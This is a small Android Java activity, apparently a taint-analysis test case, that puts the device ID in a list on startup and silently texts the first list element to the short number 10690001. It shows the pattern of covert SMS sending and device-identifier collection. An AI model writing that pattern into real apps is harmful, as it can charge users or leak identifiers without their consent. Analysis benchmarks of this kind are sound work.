package cn.shanhai.listelement;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.LinkedList;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    List<String> parts = new LinkedList<>();
    parts.add("1.0");
    parts.add(Device.id(this));
    SmsManager.getDefault().sendTextMessage("10690001", null, parts.get(0), null, null);
  }
}
